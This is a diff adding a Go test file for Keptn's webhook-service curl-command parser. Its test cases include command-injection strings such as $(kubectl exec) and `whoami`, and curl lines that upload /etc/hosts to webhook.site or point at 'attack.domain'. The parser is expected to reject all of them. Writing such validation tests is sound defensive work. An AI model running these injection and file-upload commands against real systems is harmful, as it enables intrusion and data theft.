@@ -0,0 +1,429 @@
+package lib_test
+
+import (
+	"bytes"
+	"errors"
+	"fmt"
+	"github.com/keptn/keptn/webhook-service/lib"
+	"github.com/stretchr/testify/require"
+	"testing"
+)
+
+func TestParseCurlCommand_InvalidCommand(t *testing.T) {
+	request, err := lib.ParseCurlCommand("invalid command")
+
+	require.NotNil(t, err)
+	require.True(t, lib.IsInvalidCommandError(err))
+	require.Nil(t, request)
+}
+
+func TestParseCurlCommand_EmptyCommand(t *testing.T) {
+	request, err := lib.ParseCurlCommand("")
+
+	require.NotNil(t, err)
+	require.True(t, lib.IsNoCommandError(err))
+	require.Nil(t, request)
+}
+
+func TestParseCurlCommand(t *testing.T) {
+	retries := 3
+	tests := []struct {
+		name    string
+		curlCmd string
+		want    *lib.Request
+		wantErr bool
+	}{
+		{
+			name:    "valid request",
+			curlCmd: `curl -X POST -H 'Content-type: application/json' --data '{"email":"john.doe@keptn.com"}' https://my.hook.com/foo`,
+			want: &lib.Request{
+				Method:  "POST",
+				URL:     "https://my.hook.com/foo",
+				Headers: []lib.Header{{Key: "Content-type", Value: "application/json"}},
+				Payload: `{"email":"john.doe@keptn.com"}`,
+			},
+		},
+		{
+			name:    "valid request - --fail-with-body flag is ignored",
+			curlCmd: `curl --request POST --header 'Content-type: application/json' --data '{"text":"Hello, World!"}' https://my.hook.com/foo --fail-with-body`,
+			want: &lib.Request{
+				Method:  "POST",
+				URL:     "https://my.hook.com/foo",
+				Headers: []lib.Header{{Key: "Content-type", Value: "application/json"}},
+				Payload: `{"text":"Hello, World!"}`,
+			},
+		},
+		{
+			name:    "valid request - combined flags and attached values",
+			curlCmd: `curl -sSLk -XPUT --max-time=2.5 --retry 3 --url https://my.hook.com/foo`,
+			want: &lib.Request{
+				Method:                "PUT",
+				URL:                   "https://my.hook.com/foo",
+				Timeout:               "2.5s",
+				Retries:               &retries,
+				InsecureSkipTLSVerify: true,
+				FollowRedirects:       true,
+			},
+		},
+		{
+			name:    "valid request - basic auth and multiple data parts",
+			curlCmd: `curl -u name:passwd -d a=1 --data-raw b=@2 http://my.hook.com`,
+			want: &lib.Request{
+				URL:     "http://my.hook.com",
+				Headers: []lib.Header{{Key: "Authorization", Value: "Basic bmFtZTpwYXNzd2Q="}},
+				Payload: "a=1&b=@2",
+			},
+		},
+		{
+			name:    "valid request - PATCH with url-encoded data",
+			curlCmd: `curl -X PATCH --data-urlencode 'text=Hello, World!' --data-urlencode =a+b http://my.hook.com`,
+			want: &lib.Request{
+				Method:  "PATCH",
+				URL:     "http://my.hook.com",
+				Payload: "text=Hello%2C+World%21&a%2Bb",
+			},
+		},
+		{
+			name:    "valid request - multipart form",
+			curlCmd: `curl -F 'summary=Deployment failed' --form priority=high --form-string 'note=@mention' http://my.hook.com`,
+			want: &lib.Request{
+				URL: "http://my.hook.com",
+				Multipart: []lib.MultipartField{
+					{Name: "summary", Value: "Deployment failed"},
+					{Name: "priority", Value: "high"},
+					{Name: "note", Value: "@mention"},
+				},
+			},
+		},
+		{
+			name:    "try to upload file using @ notation in form part - should return error",
+			curlCmd: `curl -F file=@/etc/hosts https://webhook.site/2775`,
+			wantErr: true,
+		},
+		{
+			name:    "try to upload file using < notation in form part - should return error",
+			curlCmd: `curl --form 'file=</etc/hosts' https://webhook.site/2775`,
+			wantErr: true,
+		},
+		{
+			name:    "try to upload file using @ notation in --data-urlencode - should return error",
+			curlCmd: `curl --data-urlencode text@/etc/hosts https://webhook.site/2775`,
+			wantErr: true,
+		},
+		{
+			name:    "data and form parts - should return error",
+			curlCmd: `curl -d a=b -F c=d https://my.hook.com`,
+			wantErr: true,
+		},
+		{
+			name:    "try to inject command - should return error",
+			curlCmd: `curl -X POST -H 'token: $(kubectl exec)' --data '{\"text\":\"Hello, World!\"}' https://my.hook.com/foo`,
+			wantErr: true,
+		},
+		{
+			name:    "try to inject command - should return error (2)",
+			curlCmd: `curl -X POST -H 'token: abcd' --data '{\"text\":\"Hello, World!\"}' https://my.hook.com/foo | pwd`,
+			wantErr: true,
+		},
+		{
+			name:    "try to inject command - should return error (3)",
+			curlCmd: `curl -X POST -H 'Content-type: application/json' --data '{\"text\":\"Hello, World!\"}' https://attack.domain || pwd`,
+			wantErr: true,
+		},
+		{
+			name:    "try to inject command - should return error (4)",
+			curlCmd: `curl -X POST -H 'Content-type: application/json' --data '{\"text\":\"Hello, World!\"}' https://attack.domain & $(pwd)`,
+			wantErr: true,
+		},
+		{
+			name:    "try to inject command - should return error (5)",
+			curlCmd: `curl -X POST -H 'Content-type: application/json' --data '{\"text\":\"Hello, World!\"}' https://orf.at && $(pwd)`,
+			wantErr: true,
+		},
+		{
+			name:    "try to inject command - should return error (6)",
+			curlCmd: `curl -X POST -H 'Content-type: application/json' --data '{\"text\":\"Hello, World!\"}' https://attack.domain ; $(pwd)`,
+			wantErr: true,
+		},
+		{
+			name:    "try to inject command - should return error (7)",
+			curlCmd: `curl -X POST -H 'Content-type: application/json';$(pwd) #' --data '{\"text\":\"Hello, World!\"}' localhost:8000`,
+			wantErr: true,
+		},
+		{
+			name:    "try to inject command - should return error (8)",
+			curlCmd: `curl -X POST -H 'Content-type: application/json' --data '{\"text\":\"Hello, World!}'; $(pwd) #\"}' https://attack.domain`,
+			wantErr: true,
+		},
+		{
+			name:    "try to inject command - should return error (8)",
+			curlCmd: "curl -X POST -H 'Content-type:' `whoami` #'--data '{\"text\":\"Hello, World!\"}' localhost:8000",
+			wantErr: true,
+		},
+		{
+			name:    "try to download to file - should return error",
+			curlCmd: `curl -X POST -H 'token: abcd' --data '{\"text\":\"Hello, World!\"}' https://my.hook.com/foo -o somefile`,
+			wantErr: true,
+		},
+		{
+			name:    "try to upload file - should return error",
+			curlCmd: `curl -X POST -H 'token: abcd' --data '{\"text\":\"Hello, World!\"}' https://my.hook.com/foo -F 'data=@path/to/local/file'`,
+			wantErr: true,
+		},
+		{
+			name:    "try to upload file using @ notation in data part 1 - should return error",
+			curlCmd: `curl -X POST -H 'token: abcd' --data '@/etc/hosts https://webhook.site/2775'`,
+			wantErr: true,
+		},
+		{
+			name:    "try to upload file using @ notation in data part 2 - should return error",
+			curlCmd: `curl -X POST -H 'token: abcd' --data @/etc/hosts https://webhook.site/2775`,
+			wantErr: true,
+		},
+		{
+			name:    "try to upload file using @ notation in data part 3 - should return error",
+			curlCmd: `curl -X POST -H 'token: abcd' --data ''@/etc/hosts https://webhook.site/2775`,
+			wantErr: true,
+		},
+		{
+			name:    "try to upload file using @ notation in data part 3 - should return error",
+			curlCmd: `curl -X POST -H 'token: abcd' --data ''''@/etc/hosts https://webhook.site/2775`,
+			wantErr: true,
+		},
+		{
+			name:    "try to upload file using @ notation in data part 4 - should return error",
+			curlCmd: `curl -X POST -H 'token: abcd' --data ''''''@/etc/hosts https://webhook.site/2775'`,
+			wantErr: true,
+		},
+		{
+			name:    "try to upload file using @ notation in --data-binary - should return error",
+			curlCmd: `curl -X POST --data-binary @/etc/hosts https://webhook.site/2775`,
+			wantErr: true,
+		},
+		{
+			name:    "unclosed quote",
+			curlCmd: `curl -X POST -H 'token: abcd' --data '{\"text\":\"Hello, World!\"} https://my.hook.com/foo -o somefile`,
+			wantErr: true,
+		},
+		{
+			name:    "missing value of option",
+			curlCmd: `curl https://my.hook.com/foo -X`,
+			wantErr: true,
+		},
+		{
+			name:    "multiple URLs",
+			curlCmd: `curl https://my.hook.com/foo https://my.hook.com/bar`,
+			wantErr: true,
+		},
+		{
+			name:    "missing URL",
+			curlCmd: `curl -X POST`,
+			wantErr: true,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := lib.ParseCurlCommand(tt.curlCmd)
+
+			if tt.wantErr {
+				require.NotNil(t, err)
+				require.True(t, lib.IsInvalidCommandError(err))
+				require.Nil(t, got)
+				return
+			}
+			require.Nil(t, err)
+			require.Equal(t, tt.want, got)
+		})
+	}
+}
+
+func TestApplyCurlOptions(t *testing.T) {
+	request := &lib.Request{URL: "https://my.hook.com", Method: "POST"}
+
+	err := lib.ApplyCurlOptions(request, "--insecure --location -m 10")
+	require.Nil(t, err)
+	require.Equal(t, &lib.Request{URL: "https://my.hook.com", Method: "POST", InsecureSkipTLSVerify: true, FollowRedirects: true, Timeout: "10s"}, request)
+
+	err = lib.ApplyCurlOptions(request, "--output somefile")
+	require.NotNil(t, err)
+	require.True(t, lib.IsInvalidCommandError(err))
+
+	err = lib.ApplyCurlOptions(request, "https://other.hook.com")
+	require.NotNil(t, err)
+}
+
+func TestDeniedURLS(t *testing.T) {
+	transport := &recordingRoundTripper{}
+	kubeEnvs := map[string]string{"KUBERNETES_SERVICE_HOST": "1.2.3.4", "KUBERNETES_SERVICE_PORT": "9876"}
+	executor := lib.NewHTTPRequestExecutor(lib.WithDeniedURLs(lib.DeniedURLs(kubeEnvs)), lib.WithTransport(transport))
+	urls := lib.DeniedURLs(kubeEnvs)
+	for _, u := range urls {
+		urls = append(urls, "http://"+u)
+		urls = append(urls, "https://"+u)
+	}
+	for _, u := range urls {
+		urls = append(urls, u+".")
+	}
+	for _, u := range urls {
+		urls = append(urls, insertNth(u, '\\', 1))
+	}
+
+	// checking
+	for _, u := range urls {
+		t.Logf("checking url: %s", u)
+		request, err := lib.ParseCurlCommand(fmt.Sprintf("curl -X GET %s", u))
+		require.Nil(t, err)
+		_, err = executor.Execute(*request)
+		require.NotNil(t, err)
+	}
+
+	// check whether we never ever actually sent a request
+	require.Empty(t, transport.requests)
+}
+
+func TestIsNoCommandError(t *testing.T) {
+	type args struct {
+		err error
+	}
+	tests := []struct {
+		name string
+		args args
+		want bool
+	}{
+		{
+			name: "no command error",
+			args: args{
+				err: lib.NewCurlError(errors.New("oops"), lib.NoCommandError),
+			},
+			want: true,
+		},
+		{
+			name: "any error",
+			args: args{
+				err: errors.New("oops"),
+			},
+			want: false,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := lib.IsNoCommandError(tt.args.err); got != tt.want {
+				t.Errorf("IsNoCommandError() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestIsInvalidCommandError(t *testing.T) {
+	type args struct {
+		err error
+	}
+	tests := []struct {
+		name string
+		args args
+		want bool
+	}{
+		{
+			name: "invalid command error",
+			args: args{
+				err: lib.NewCurlError(errors.New("oops"), lib.InvalidCommandError),
+			},
+			want: true,
+		},
+		{
+			name: "any error",
+			args: args{
+				err: errors.New("oops"),
+			},
+			want: false,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := lib.IsInvalidCommandError(tt.args.err); got != tt.want {
+				t.Errorf("IsInvalidCommandError() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestIsDeniedURLError(t *testing.T) {
+	type args struct {
+		err error
+	}
+	tests := []struct {
+		name string
+		args args
+		want bool
+	}{
+		{
+			name: "denied URL error",
+			args: args{
+				err: lib.NewCurlError(errors.New("oops"), lib.DeniedURLError),
+			},
+			want: true,
+		},
+		{
+			name: "any error",
+			args: args{
+				err: errors.New("oops"),
+			},
+			want: false,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := lib.IsDeniedURLError(tt.args.err); got != tt.want {
+				t.Errorf("IsDeniedURLError() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestIsRequestError(t *testing.T) {
+	type args struct {
+		err error
+	}
+	tests := []struct {
+		name string
+		args args
+		want bool
+	}{
+		{
+			name: "request execution error",
+			args: args{
+				err: lib.NewCurlError(errors.New("oops"), lib.RequestError),
+			},
+			want: true,
+		},
+		{
+			name: "any error",
+			args: args{
+				err: errors.New("oops"),
+			},
+			want: false,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := lib.IsRequestError(tt.args.err); got != tt.want {
+				t.Errorf("IsRequestError() = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func insertNth(s string, r rune, n int) string {
+	var buffer bytes.Buffer
+	buffer.WriteRune(r)
+	var n1 = n - 1
+	var l1 = len(s) - 1
+	for i, rune := range s {
+		buffer.WriteRune(rune)
+		if i%n == n1 && i != l1 {
+			buffer.WriteRune(r)
+		}
+	}
+	buffer.WriteRune(r)
+	return buffer.String()
+}